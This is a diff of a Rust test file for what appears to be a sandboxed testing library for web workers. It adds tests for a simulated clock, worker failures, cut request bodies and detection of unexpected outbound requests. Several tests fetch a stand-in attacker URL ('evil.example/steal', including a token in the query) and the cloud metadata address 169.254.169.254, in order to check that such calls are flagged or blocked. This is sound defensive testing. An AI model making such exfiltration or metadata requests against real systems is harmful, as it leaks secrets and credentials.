@@ -1,10 +1,10 @@
 //! The library's own powers: what it sees, its clock, its seed, its faults, and how it tells a difference.
 
-use std::time::Duration;
+use std::time::{Duration, Instant};
 
 use serde_json::json;
 use tollgate_test::{
-    End, Expect, ExpectRequest, Fault, Hop, Limits, Origin, Payload, Reply, Request, TestError, contract,
+    End, Expect, ExpectRequest, Fault, Hop, Limits, Origin, Payload, Reply, Request, Run, Secrets, TestError, contract,
 };
 
 use crate::{ask, fetch, lab, operators, pair, suite, user};
@@ -48,9 +48,10 @@ fn a_request_too_many_is_a_difference() {
 fn an_hour_takes_no_time() {
     for name in ["test-user", "test-user-3"] {
         let composition = lab().compose().user("alice", &user(name)).unwrap();
+        let began = Instant::now();
         let run = composition.send(ask("/sleep?ms=250000")).unwrap();
-        run.assert(&Expect::new().status(200));
-        assert!(run.lasted >= Duration::from_secs(250), "{:?}", run.lasted);
+        assert!(began.elapsed() < Duration::from_secs(60), "{:?} on a real clock", began.elapsed());
+        run.assert(&Expect::new().status(200).lasted_ms(250_000, 260_000));
         let run = composition
             .clone()
             .limits(Limits { wall_ms: Some(1_000), ..Limits::default() })
@@ -154,8 +155,12 @@ fn a_fault_that_no_request_meets_is_a_difference() {
 #[test]
 fn a_worker_that_fails_is_as_expected_only_where_that_is_said() {
     let run = suite().origin(hello()).send(ask("/trap")).unwrap();
-    assert_eq!(run.differs(&Expect::new().no_origin())[0].at, "failure");
-    assert!(run.differs(&Expect::new().status(502).no_origin()).is_empty());
+    for expect in [Expect::new().no_origin(), Expect::new().status(502).no_origin()] {
+        let found = run.differs(&expect);
+        assert_eq!(found.iter().map(|one| one.at.as_str()).collect::<Vec<_>>(), ["failure"]);
+        assert!(found[0].to_string().starts_with("failure: expected an answer of a worker's, found "), "{}", found[0]);
+    }
+    run.assert(&Expect::new().status(502).failure("trapped").printed("boom").no_origin());
 }
 
 #[test]
@@ -236,7 +241,7 @@ fn a_body_is_cut_or_drips_where_it_is_asked_to() {
     for hop in [Hop::Network, Hop::Outbound] {
         let run = suite().origin(hello()).fault(hop, Fault::Cut { after_bytes: 2 }).unwrap().send(fetch(URL)).unwrap();
         assert_eq!(run.response.text(), "he");
-        run.assert(&Expect { cut: Some(true), ..Expect::new() });
+        run.assert(&Expect::new().cut());
         let drip = Fault::Drip { bytes: 2, every: Duration::from_secs(1) };
         let run = suite().origin(hello()).fault(hop, drip).unwrap().send(fetch(URL)).unwrap();
         assert_eq!(run.response.text(), "hello");
@@ -292,6 +297,60 @@ fn a_host_that_no_rule_knows_has_no_address() {
     assert!(run.response.text().contains("DnsError"), "{run}");
     let run = suite().origin(hello()).send(fetch("http://169.254.169.254/latest")).unwrap();
     assert!(run.response.text().contains("DestinationIpProhibited"), "{run}");
+}
+
+/// Every difference, told.
+fn told(run: &Run, expect: &Expect) -> Vec<String> {
+    run.differs(expect).iter().map(ToString::to_string).collect()
+}
+
+#[test]
+fn what_comes_to_no_origin_is_seen() {
+    let away = |url: &str| suite().origin(hello()).send(fetch(url)).unwrap();
+    let evil = away("http://evil.example/steal");
+    let found = "origin: expected no other request, found GET http://evil.example/steal, which no rule is for";
+    assert_eq!(told(&evil, &Expect::new().no_origin()), [found]);
+    evil.assert(&Expect::new().status(599));
+    let inside = told(&away("http://169.254.169.254/latest"), &Expect::new().no_origin());
+    let prohibited =
+        "origin: expected no other request, found GET http://169.254.169.254/latest, which did not arrive: ";
+    assert!(inside.len() == 1 && inside[0].starts_with(prohibited), "{inside:?}");
+    // What arrives, and what a planned fault keeps back, is nowhere else.
+    away(URL).assert(&Expect::new().origin(ExpectRequest::any()));
+    let refused = suite().origin(hello()).fault(Hop::Network, Fault::Refuse).unwrap().send(fetch(URL)).unwrap();
+    refused.assert(&Expect::new().no_origin());
+    let cut = suite().origin(hello()).fault(Hop::Network, Fault::Cut { after_bytes: 1 }).unwrap();
+    let cut = cut.send(fetch("http://evil.example/steal")).unwrap();
+    assert_eq!(told(&cut, &Expect::new().no_origin()), [found]);
+}
+
+#[test]
+fn who_asks_somewhere_else_changes_something() {
+    let away = |url: &str| suite().origin(hello()).send(fetch(url)).unwrap();
+    let secrets = Secrets::new(Vec::new(), Vec::new()).unwrap();
+    let (one, other) = (away("http://evil.example/steal"), away("http://evil.example/more"));
+    assert_eq!(one.response.text(), other.response.text());
+    assert_eq!(one.changes(&one, &secrets), "");
+    let changes = other.changes(&one, &secrets);
+    for line in ["-to network: GET http://evil.example/steal", "+to network: GET http://evil.example/more"] {
+        assert!(changes.contains(line), "{changes}");
+    }
+    let changes = away("http://evil.example/?token=a").changes(&away("http://evil.example/?token=b"), &secrets);
+    assert_eq!(changes, "what differs is a secret, or beyond what is shown of a body");
+}
+
+#[test]
+fn a_request_that_breaks_off_is_expected_only_where_that_is_said() {
+    let run = suite().origin(hello()).send(ask("/trap-mid-request").header("x-target-url", URL).unwrap()).unwrap();
+    let expect = Expect::new().failure("trapped");
+    let found = told(&run, &expect.clone().origin(ExpectRequest::new("POST", URL)));
+    let words = "origin[0].cut: expected a whole body, found one that breaks off: ";
+    assert!(found.len() == 1 && found[0].starts_with(words), "{found:?}");
+    run.assert(&expect.origin(ExpectRequest::new("POST", URL).body("half").cut()));
+    // Of one that is replied to early nobody minds how it ends.
+    let early = Origin::new().reply(URL, Reply::text("").early());
+    let run = suite().origin(early).send(ask("/trap-mid-request").header("x-target-url", URL).unwrap()).unwrap();
+    run.assert(&Expect::new().failure("trapped").origin(ExpectRequest::any()).outbound(ExpectRequest::any()));
 }
 
 #[test]
